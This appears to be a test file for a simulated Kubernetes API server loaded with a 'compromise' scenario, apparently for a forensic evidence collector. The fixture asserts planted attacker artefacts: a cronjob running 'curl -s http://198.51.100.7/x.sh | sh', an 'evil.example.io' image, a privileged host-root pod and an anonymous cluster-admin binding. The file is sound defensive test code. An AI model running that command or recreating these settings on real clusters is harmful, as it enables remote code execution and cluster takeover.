/**
 * The fixture API server driven by the real @kubernetes/client-node: lists with pagination and
 * 410 on expired continue tokens, get, discovery (built-in, CRD, aggregated), partial object
 * metadata, auth (401), forbidden (403), SelfSubjectAccessReview and fault injection.
 */
import {
  ApiException,
  AppsV1Api,
  AuthorizationV1Api,
  BatchV1Api,
  CoreV1Api,
  KubeConfig,
  KubernetesObjectApi,
  NetworkingV1Api,
  RbacAuthorizationV1Api,
} from '@kubernetes/client-node';
import { fetch } from 'undici';
import { loadScenario } from '../../shared/simulator/kube/loadScenario.js';
import type { FixtureCluster, Scenario } from '../../shared/simulator/kube/scenario.js';
import { fixtureKubeConfig, startFixtureCluster } from '../../shared/simulator/kube/server.js';
import { RequestContext, HttpMethod } from '@kubernetes/client-node';

/** A raw GET through the client's own auth + TLS machinery, returning status, headers and JSON. */
async function rawGet(kc: KubeConfig, path: string, accept = 'application/json'): Promise<{ status: number; body: any; headers: Headers }> {
  const url = `${kc.getCurrentCluster()!.server}${path}`;
  const ctx = new RequestContext(url, HttpMethod.GET);
  await kc.applySecurityAuthentication(ctx);
  const res = await fetch(url, { headers: { ...ctx.getHeaders(), Accept: accept }, dispatcher: ctx.getDispatcher() });
  const text = await res.text();
  return { status: res.status, body: text ? JSON.parse(text) : undefined, headers: res.headers as unknown as Headers };
}

function codeOf(e: unknown): number | undefined {
  return e instanceof ApiException ? e.code : undefined;
}

describe('fixture API server with the compromise scenario', () => {
  let scenario: Scenario;
  let cluster: FixtureCluster;
  let kc: KubeConfig;

  beforeAll(async () => {
    scenario = await loadScenario('compromise');
    cluster = await startFixtureCluster(scenario, { continueTokenTtlMs: 60_000 });
    kc = fixtureKubeConfig(cluster);
  });
  afterAll(async () => {
    await cluster.stop();
  });

  test('lists every pod across namespaces, typed, with list metadata', async () => {
    const core = kc.makeApiClient(CoreV1Api);
    const list = await core.listPodForAllNamespaces();
    const expected = scenario.objects.filter((o) => o.kind === 'Pod');
    expect(expected.length).toBeGreaterThanOrEqual(18);
    expect(list.items.map((p) => `${p.metadata!.namespace}/${p.metadata!.name}`).sort()).toEqual(expected.map((p) => `${p.metadata.namespace}/${p.metadata.name}`).sort());
    expect(list.metadata?.resourceVersion).toMatch(/^\d+$/);
    expect(list.kind).toBe('PodList');
    const privileged = list.items.find((p) => p.metadata!.name === 'node-agent-x9z8y')!;
    expect(privileged.spec!.hostPID).toBe(true);
    expect(privileged.spec!.volumes![0]!.hostPath!.path).toBe('/');
    expect(privileged.spec!.containers[0]!.securityContext!.capabilities!.add).toContain('SYS_ADMIN');
    expect(privileged.metadata!.creationTimestamp).toBeInstanceOf(Date);
  });

  test('paginates with limit/continue and remainingItemCount, in key order, without duplicates', async () => {
    const core = kc.makeApiClient(CoreV1Api);
    const seen: string[] = [];
    let cont: string | undefined;
    let pages = 0;
    do {
      const page = await core.listPodForAllNamespaces({ limit: 4, _continue: cont });
      pages++;
      seen.push(...page.items.map((p) => `${p.metadata!.namespace}/${p.metadata!.name}`));
      cont = page.metadata?._continue;
      if (cont) expect(page.metadata!.remainingItemCount).toBeGreaterThan(0);
      expect(page.items.length).toBeLessThanOrEqual(4);
    } while (cont);
    const all = scenario.objects.filter((o) => o.kind === 'Pod').map((p) => `${p.metadata.namespace}/${p.metadata.name}`);
    expect(pages).toBe(Math.ceil(all.length / 4));
    expect(seen).toEqual([...all].sort());
  });

  test('namespaced list, cluster-scoped list and get through the typed clients', async () => {
    const rbac = kc.makeApiClient(RbacAuthorizationV1Api);
    const crbs = await rbac.listClusterRoleBinding();
    const anon = crbs.items.find((b) => b.metadata!.name === 'anonymous-admin')!;
    expect(anon.roleRef.name).toBe('cluster-admin');
    expect(anon.subjects!.map((s) => s.name)).toEqual(['system:anonymous', 'system:unauthenticated']);
    const rbs = await rbac.listNamespacedRoleBinding({ namespace: 'dev' });
    expect(rbs.items.map((b) => b.metadata!.name)).toEqual(['toolbox-edit']);
    const view = await rbac.readClusterRole({ name: 'view' });
    expect(view.aggregationRule!.clusterRoleSelectors![0]!.matchLabels).toEqual({ 'rbac.authorization.k8s.io/aggregate-to-view': 'true' });

    const batch = kc.makeApiClient(BatchV1Api);
    const cj = await batch.readNamespacedCronJob({ name: 'cleanup', namespace: 'kube-system' });
    expect(cj.spec.jobTemplate.spec!.template.spec!.containers[0]!.args).toEqual(['curl -s http://198.51.100.7/x.sh | sh']);
    expect(cj.spec.jobTemplate.spec!.template.spec!.initContainers![0]!.image).toBe('evil.example.io/tools:latest');

    const apps = kc.makeApiClient(AppsV1Api);
    const ds = await apps.listDaemonSetForAllNamespaces();
    expect(ds.items.map((d) => d.metadata!.name).sort()).toEqual(['kube-proxy', 'node-agent']);
    const net = kc.makeApiClient(NetworkingV1Api);
    const prodPolicies = await net.listNamespacedNetworkPolicy({ namespace: 'prod' });
    expect(prodPolicies.items.length).toBe(2);
    const devPolicies = await net.listNamespacedNetworkPolicy({ namespace: 'dev' });
    expect(devPolicies.items.length).toBe(0);

    const core = kc.makeApiClient(CoreV1Api);
    const nodes = await core.listNode();
    expect(nodes.items.length).toBe(2);
    const ns = await core.readNamespace({ name: 'kube-sys-tools' });
    expect(ns.metadata!.name).toBe('kube-sys-tools');
    await expect(core.readNamespacedPod({ name: 'nope', namespace: 'prod' })).rejects.toMatchObject({ code: 404 });
  });

  test('owner references and event involved objects carry the referenced uid', async () => {
    const core = kc.makeApiClient(CoreV1Api);
    const apps = kc.makeApiClient(AppsV1Api);
    const pod = await core.readNamespacedPod({ name: 'node-agent-x9z8y', namespace: 'kube-sys-tools' });
    const ds = await apps.readNamespacedDaemonSet({ name: 'node-agent', namespace: 'kube-sys-tools' });
    expect(pod.metadata!.ownerReferences![0]!.uid).toBe(ds.metadata!.uid);
    const events = await core.listNamespacedEvent({ namespace: 'kube-sys-tools' });
    const started = events.items.find((e) => e.reason === 'Started')!;
    expect(started.involvedObject.uid).toBe(pod.metadata!.uid);
  });

  test('raw list items of built-in types have no apiVersion/kind; custom resources keep them', async () => {
    const pods = await rawGet(kc, '/api/v1/namespaces/prod/pods');
    expect(pods.status).toBe(200);
    expect(pods.body.apiVersion).toBe('v1');
    expect(pods.body.kind).toBe('PodList');
    expect(pods.body.items[0].apiVersion).toBeUndefined();
    const crs = await rawGet(kc, '/apis/ops.example.com/v1/scheduledbackups');
    expect(crs.body.kind).toBe('ScheduledBackupList');
    expect(crs.body.items.map((i: any) => `${i.apiVersion} ${i.kind} ${i.metadata.namespace}/${i.metadata.name}`)).toEqual([
      'ops.example.com/v1 ScheduledBackup kube-sys-tools/exfil-hourly',
      'ops.example.com/v1 ScheduledBackup prod/postgres-nightly',
    ]);
    // The same objects at the second served version.
    const beta = await rawGet(kc, '/apis/ops.example.com/v1beta1/namespaces/prod/scheduledbackups/postgres-nightly');
    expect(beta.body.apiVersion).toBe('ops.example.com/v1beta1');
  });

  test('KubernetesObjectApi lists built-in and custom kinds through discovery', async () => {
    const objects = KubernetesObjectApi.makeApiClient(kc);
    const sbk = await objects.list('ops.example.com/v1', 'ScheduledBackup', 'prod');
    expect(sbk.items.map((i) => i.metadata!.name)).toEqual(['postgres-nightly']);
    const hooks = await objects.list('admissionregistration.k8s.io/v1', 'MutatingWebhookConfiguration');
    expect(hooks.items.map((i) => i.metadata!.name).sort()).toEqual(['aks-webhook-admission-controller', 'pod-sidecar-injector']);
  });

  test('discovery: core, built-in groups with preferred versions, CRD group, aggregated API, subresources', async () => {
    const api = await rawGet(kc, '/api');
    expect(api.body.versions).toEqual(['v1']);
    const core = await rawGet(kc, '/api/v1');
    const names = core.body.resources.map((r: any) => r.name);
    expect(names).toEqual(expect.arrayContaining(['pods', 'pods/log', 'pods/exec', 'secrets', 'namespaces', 'nodes']));
    const pods = core.body.resources.find((r: any) => r.name === 'pods');
    expect(pods).toMatchObject({ kind: 'Pod', namespaced: true, verbs: expect.arrayContaining(['list', 'get']) });
    const groups = await rawGet(kc, '/apis');
    const byName = new Map<string, any>(groups.body.groups.map((g: any) => [g.name, g]));
    expect(byName.get('autoscaling').preferredVersion.version).toBe('v2');
    expect(byName.get('autoscaling').versions.map((v: any) => v.version)).toEqual(['v2', 'v1']);
    expect(byName.get('ops.example.com').preferredVersion.version).toBe('v1');
    expect(byName.get('metrics.k8s.io').preferredVersion.groupVersion).toBe('metrics.k8s.io/v1beta1');
    const crd = await rawGet(kc, '/apis/ops.example.com/v1');
    expect(crd.body.resources).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ name: 'scheduledbackups', kind: 'ScheduledBackup', namespaced: true }),
        expect.objectContaining({ name: 'scheduledbackups/status' }),
      ]),
    );
    const metrics = await rawGet(kc, '/apis/metrics.k8s.io/v1beta1');
    expect(metrics.body.resources.map((r: any) => `${r.name}:${r.kind}`).sort()).toEqual(['nodes:NodeMetrics', 'pods:PodMetrics']);
    // The aggregated API whose backend is down answers 503 on discovery, like a real cluster.
    expect(byName.has('telemetry.sys-tools.io')).toBe(true);
    const broken = await rawGet(kc, '/apis/telemetry.sys-tools.io/v1alpha1');
    expect(broken.status).toBe(503);
  });

  test('aggregated metrics.k8s.io serves pod and node metrics for running pods', async () => {
    const pm = await rawGet(kc, '/apis/metrics.k8s.io/v1beta1/pods');
    const running = scenario.objects.filter((o) => o.kind === 'Pod' && (o as any).status?.phase === 'Running').length;
    expect(pm.body.kind).toBe('PodMetricsList');
    expect(pm.body.items.length).toBe(running);
    expect(pm.body.items[0].containers[0].usage.cpu).toMatch(/^\d+n$/);
    const nm = await rawGet(kc, '/apis/metrics.k8s.io/v1beta1/nodes');
    expect(nm.body.items.length).toBe(2);
    expect(cluster.objectsOf('metrics.k8s.io/v1beta1', 'PodMetrics').length).toBe(running);
  });

  test('partial object metadata: secrets without data, for lists and single objects, any resource', async () => {
    const list = await rawGet(kc, '/api/v1/secrets', 'application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1,application/json');
    expect(list.body.kind).toBe('PartialObjectMetadataList');
    expect(list.body.apiVersion).toBe('meta.k8s.io/v1');
    const secrets = scenario.objects.filter((o) => o.kind === 'Secret');
    expect(list.body.items.length).toBe(secrets.length);
    for (const item of list.body.items) {
      expect(item.kind).toBe('PartialObjectMetadata');
      expect(Object.keys(item).sort()).toEqual(['apiVersion', 'kind', 'metadata']);
    }
    expect(JSON.stringify(list.body.items)).not.toContain('Q0FOQVJZLVNFQ1JFVC1WQUxVRS10bHMta2V5'); // a value not in any annotation
    const one = await rawGet(kc, '/api/v1/namespaces/prod/secrets/web-tls', 'application/json;as=PartialObjectMetadata;g=meta.k8s.io;v=v1');
    expect(one.body.kind).toBe('PartialObjectMetadata');
    expect(one.body.data).toBeUndefined();
    const cms = await rawGet(kc, '/api/v1/namespaces/prod/configmaps?limit=1', 'application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1');
    expect(cms.body.items.length).toBe(1);
    expect(cms.body.metadata.continue).toBeTruthy();
    // Without the partial form the values are served (the collector must never ask that way).
    const full = await rawGet(kc, '/api/v1/namespaces/prod/secrets/web-tls');
    expect(full.body.data['tls.key']).toBe('Q0FOQVJZLVNFQ1JFVC1WQUxVRS10bHMta2V5');
    // Only an unsupported form: 406.
    const table = await rawGet(kc, '/api/v1/secrets', 'application/json;as=Table;g=meta.k8s.io;v=v1');
    expect(table.status).toBe(406);
  });

  test('label and field selectors', async () => {
    const core = kc.makeApiClient(CoreV1Api);
    const byLabel = await core.listPodForAllNamespaces({ labelSelector: 'app in (node-agent,api)' });
    expect(byLabel.items.map((p) => p.metadata!.name).sort()).toEqual(['api-5f6d7c8b9-klmno', 'api-5f6d7c8b9-uvwxy', 'node-agent-b7c6d', 'node-agent-x9z8y']);
    const byField = await core.listPodForAllNamespaces({ fieldSelector: 'status.phase=Succeeded' });
    expect(byField.items.map((p) => p.metadata!.name)).toEqual(['cleanup-28620465-x7k2p']);
    const secretsByType = await rawGet(
      kc,
      '/api/v1/secrets?fieldSelector=type%3Dkubernetes.io%2Fservice-account-token',
      'application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1',
    );
    expect(secretsByType.body.items.map((i: any) => i.metadata.name)).toEqual(['node-agent-token']);
  });

  test('SelfSubjectAccessReview allows what the scenario does not forbid', async () => {
    const authz = kc.makeApiClient(AuthorizationV1Api);
    const review = await authz.createSelfSubjectAccessReview({
      body: { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectAccessReview', spec: { resourceAttributes: { verb: 'list', resource: 'secrets' } } },
    });
    expect(review.status!.allowed).toBe(true);
  });

  test('a wrong token gets 401 Status JSON', async () => {
    const bad = new KubeConfig();
    bad.loadFromString(cluster.kubeconfigYaml.replace(cluster.token, 'not-the-token'));
    const core = bad.makeApiClient(CoreV1Api);
    const err = await core.listNamespace().catch((e: unknown) => e);
    expect(codeOf(err)).toBe(401);
    const raw = await rawGet(bad, '/api/v1/namespaces');
    expect(raw.status).toBe(401);
    expect(raw.body).toEqual({ kind: 'Status', apiVersion: 'v1', metadata: {}, status: 'Failure', message: 'Unauthorized', reason: 'Unauthorized', code: 401 });
    expect(JSON.stringify(cluster.requestLog)).not.toContain(cluster.token);
  });

  test('an expired continue token answers 410 Expired', async () => {
    let t = Date.parse('2024-06-01T12:00:00Z');
    const c = await startFixtureCluster(await loadScenario('compromise'), { now: () => new Date(t), continueTokenTtlMs: 5_000 });
    try {
      const core = fixtureKubeConfig(c).makeApiClient(CoreV1Api);
      const first = await core.listPodForAllNamespaces({ limit: 5 });
      const token = first.metadata!._continue!;
      t += 4_000;
      const second = await core.listPodForAllNamespaces({ limit: 5, _continue: token });
      expect(second.items.length).toBe(5);
      t += 6_000;
      const err = await core.listPodForAllNamespaces({ limit: 5, _continue: second.metadata!._continue! }).catch((e: unknown) => e);
      expect(codeOf(err)).toBe(410);
      const body = JSON.parse((err as ApiException<string>).body);
      expect(body).toMatchObject({ kind: 'Status', reason: 'Expired', code: 410 });
      // A token for another list is rejected.
      const other = await core.listNamespacedPod({ namespace: 'prod', limit: 1, _continue: token }).catch((e: unknown) => e);
      expect(codeOf(other)).toBe(400);
    } finally {
      await c.stop();
    }
  });

  test('latencyMs delays answers without changing them; concurrent requests all complete', async () => {
    const c = await startFixtureCluster(await loadScenario('compromise'), { latencyMs: 25 });
    try {
      const core = fixtureKubeConfig(c).makeApiClient(CoreV1Api);
      const results = await Promise.all([core.listNamespace(), core.listNode(), core.listPodForAllNamespaces({ limit: 2 })]);
      expect(results.map((r) => r.items.length)).toEqual([7, 2, 2]);
      expect(c.requestLog.map((r) => r.status)).toEqual([200, 200, 200]);
      expect(() => c.deleteObject('Pod', 'prod', 'no-such-pod')).toThrow(/no Pod prod\/no-such-pod/);
    } finally {
      await c.stop();
    }
  });

  test('maxPageSize caps pages even when the client asks for more', async () => {
    const c = await startFixtureCluster(await loadScenario('compromise'), { maxPageSize: 3 });
    try {
      const core = fixtureKubeConfig(c).makeApiClient(CoreV1Api);
      const page = await core.listPodForAllNamespaces({ limit: 500 });
      expect(page.items.length).toBe(3);
      expect(page.metadata!._continue).toBeTruthy();
    } finally {
      await c.stop();
    }
  });
});

describe('forbidden resources and faults', () => {
  let cluster: FixtureCluster;
  let kc: KubeConfig;

  beforeAll(async () => {
    const scenario = await loadScenario('compromise');
    scenario.forbidden = ['secrets', 'rbac.authorization.k8s.io/clusterrolebindings', 'pods/exec'];
    cluster = await startFixtureCluster(scenario);
    kc = fixtureKubeConfig(cluster);
  });
  afterAll(async () => {
    await cluster.stop();
  });
  afterEach(() => {
    cluster.faults.length = 0;
  });

  test('403 Forbidden with the real message shape on list and get', async () => {
    const core = kc.makeApiClient(CoreV1Api);
    const err = await core.listSecretForAllNamespaces().catch((e: unknown) => e);
    expect(codeOf(err)).toBe(403);
    const body = JSON.parse((err as ApiException<string>).body);
    expect(body).toMatchObject({ kind: 'Status', status: 'Failure', reason: 'Forbidden', code: 403 });
    expect(body.message).toBe('secrets is forbidden: User "system:serviceaccount:aks-evidence:collector" cannot list resource "secrets" in API group "" at the cluster scope');
    const one = await core.readNamespacedSecret({ name: 'db-credentials', namespace: 'prod' }).catch((e: unknown) => e);
    expect(JSON.parse((one as ApiException<string>).body).message).toBe(
      'secrets "db-credentials" is forbidden: User "system:serviceaccount:aks-evidence:collector" cannot get resource "secrets" in API group "" in the namespace "prod"',
    );
    const rbac = kc.makeApiClient(RbacAuthorizationV1Api);
    await expect(rbac.listClusterRoleBinding()).rejects.toMatchObject({ code: 403 });
    await expect(rbac.listClusterRole()).resolves.toBeDefined();
  });

  test('SelfSubjectAccessReview is denied for forbidden resources and subresources', async () => {
    const authz = kc.makeApiClient(AuthorizationV1Api);
    const ask = async (resourceAttributes: Record<string, string>): Promise<boolean> =>
      (await authz.createSelfSubjectAccessReview({ body: { spec: { resourceAttributes } } })).status!.allowed;
    expect(await ask({ verb: 'list', resource: 'secrets' })).toBe(false);
    expect(await ask({ verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'prod' })).toBe(false);
    expect(await ask({ verb: 'list', group: 'rbac.authorization.k8s.io', resource: 'clusterrolebindings' })).toBe(false);
    expect(await ask({ verb: 'list', resource: 'pods' })).toBe(true);
    expect(await ask({ verb: 'get', resource: 'pods', subresource: 'log' })).toBe(true);
  });

  test('429 with Retry-After, then success once the fault is used up', async () => {
    cluster.faults.push({ match: 'GET /api/v1/namespaces', status: 429, times: 2, retryAfterSeconds: 7 });
    const core = kc.makeApiClient(CoreV1Api);
    const first = await core.listNamespace().catch((e: unknown) => e);
    expect(codeOf(first)).toBe(429);
    expect((first as ApiException<string>).headers['retry-after']).toBe('7');
    await expect(core.listNamespace()).rejects.toMatchObject({ code: 429 });
    const ok = await core.listNamespace();
    expect(ok.items.length).toBe(7);
  });

  test('500 by RegExp and a dropped connection', async () => {
    cluster.faults.push({ match: /^GET \/apis\/apps\/v1\/deployments$/, status: 500, times: 1 });
    const apps = kc.makeApiClient(AppsV1Api);
    await expect(apps.listDeploymentForAllNamespaces()).rejects.toMatchObject({ code: 500 });
    await expect(apps.listDeploymentForAllNamespaces()).resolves.toBeDefined();

    cluster.faults.push({ match: 'GET /api/v1/nodes', status: 'drop', times: 1 });
    const core = kc.makeApiClient(CoreV1Api);
    const err = await core.listNode().catch((e: unknown) => e);
    expect(err).toBeInstanceOf(Error);
    expect(codeOf(err)).toBeUndefined();
    const nodes = await core.listNode();
    expect(nodes.items.length).toBe(2);
  });

  test('request log and count record what was asked', async () => {
    const before = cluster.requestCount();
    const core = kc.makeApiClient(CoreV1Api);
    await core.listNamespacedConfigMap({ namespace: 'prod', limit: 1 });
    expect(cluster.requestCount()).toBe(before + 1);
    const last = cluster.requestLog[cluster.requestLog.length - 1]!;
    expect(last).toMatchObject({ method: 'GET', path: '/api/v1/namespaces/prod/configmaps', status: 200 });
    expect(last.query).toContain('limit=1');
  });
});
